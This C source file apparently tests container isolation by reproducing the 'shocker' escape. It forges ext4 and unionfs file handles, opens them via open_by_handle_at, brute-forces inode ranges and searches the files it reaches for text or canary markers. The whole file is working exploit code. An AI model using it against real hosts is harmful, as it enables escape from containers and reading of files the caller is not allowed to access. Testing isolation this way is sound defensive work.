// SPDX-License-Identifier: GPL-2.0
/*
 * Files by forged handles ("shocker"): handles VERB MOUNT ARGUMENT…, where MOUNT is any
 * directory of the file system.
 *   ext4 MOUNT INODE        the handle of ext4 itself, of any generation
 *   union MOUNT INODE BRANCH  the handle of unionfs around that; branch 0 is the upper one
 *   sweep MOUNT FIRST LAST TEXT  all of both kinds, and files that contain TEXT
 *   own MOUNT NAME          what the kernel gives for a file, given back to it
 * "open: done" means that the file was opened, whatever the flags.
 */
#include <ctype.h>
#include <dirent.h>
#include <stdint.h>
#include <sys/stat.h>

#include "escape.h"

#define FILEID_INO32_GEN	1
#define FILEID_UNIONFS		0xf5
#define FILEID_OVERLAY		0xfb

struct handle {
	struct file_handle head;
	uint32_t words[32];
};

static int mount_fd;

static void forge_ext4(struct handle *h, uint32_t inode)
{
	h->head.handle_type = FILEID_INO32_GEN;
	h->head.handle_bytes = 8;
	memcpy(h->head.f_handle, (uint32_t[]){ inode, 0 }, 8);
}

static void forge_union(struct handle *h, uint32_t inode, unsigned int branch)
{
	uint32_t fh[] = { branch << 16 | 2 << 8 | FILEID_INO32_GEN, inode, 0 };

	h->head.handle_type = FILEID_UNIONFS;
	h->head.handle_bytes = sizeof(fh);
	memcpy(h->head.f_handle, fh, sizeof(fh));
}

/* As a directory too: that is what a user namespace may ask for. */
static int try(struct handle *h)
{
	static const int flags[] = { O_RDONLY | O_NONBLOCK, O_RDONLY | O_DIRECTORY, O_PATH };

	for (size_t i = 0; i < 3; i++) {
		int fd = open_by_handle_at(mount_fd, &h->head, flags[i] | O_CLOEXEC);

		if (fd >= 0)
			return fd;
	}
	return -1;
}

static int holds(int fd, const char *text)
{
	char path[64], buf[4097], name[4096];
	struct dirent *entry;
	ssize_t n;
	DIR *dir;

	/* An O_PATH descriptor can be opened anew by who may. */
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, name, sizeof(name) - 1);
	name[n < 0 ? 0 : n] = '\0';
	fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	buf[n < 0 ? 0 : n] = '\0';
	if (n >= 0) {
		close(fd);
		return !!strstr(buf, text);
	}
	dir = fdopendir(fd);
	while (dir && (entry = readdir(dir)))
		if (strstr(entry->d_name, text)) {
			closedir(dir);
			return 1;
		}
	if (dir)
		closedir(dir);
	return 0;
}

static int do_ext4(char **args)
{
	struct handle h;

	forge_ext4(&h, strtoul(args[0], NULL, 0));
	return outcome("open", try(&h));
}

static int do_union(char **args)
{
	struct handle h;
	int fd;

	forge_union(&h, strtoul(args[0], NULL, 0), atoi(args[1]));
	fd = try(&h);
	if (fd >= 0 && holds(fd, "canary of"))
		printf("it is a canary; ");
	return outcome("open", fd);
}

static int do_sweep(char **args)
{
	unsigned long first = strtoul(args[0], NULL, 0), last = strtoul(args[1], NULL, 0);
	int opened = 0, found = 0;

	for (unsigned long inode = first; inode <= last; inode++)
		for (int kind = -1; kind < 3; kind++) {
			struct handle h;
			int fd;

			if (kind < 0)
				forge_ext4(&h, inode);
			else
				forge_union(&h, inode, kind);
			fd = try(&h);
			if (fd < 0)
				continue;
			opened++;
			if (holds(fd, args[2])) {
				found++;
				printf("# inode %lu, kind %d\n", inode, kind);
			}
			close(fd);
		}
	printf("opened %s, with \"%s\": %d\n", opened ? "some" : "none", args[2], found);
	return !found;
}

static int do_own(char **args)
{
	struct handle h = { .head.handle_bytes = sizeof(h.words) };
	int id;

	need(!name_to_handle_at(mount_fd, args[0], &h.head, &id, 0), "name_to_handle_at");
	return outcome("open", try(&h));
}

static const struct {
	const char *name;
	int (*run)(char **args);
	int args;
} verbs[] = {
	{ "ext4", do_ext4, 1 }, { "union", do_union, 2 }, { "sweep", do_sweep, 3 },
	{ "own", do_own, 1 },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 2 && i < sizeof(verbs) / sizeof(verbs[0]); i++)
		if (!strcmp(argv[1], verbs[i].name) && argc == 3 + verbs[i].args) {
			mount_fd = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			need(mount_fd >= 0, argv[2]);
			return verbs[i].run(argv + 3);
		}
	errno = EINVAL;
	need(0, "verb or its arguments");
}
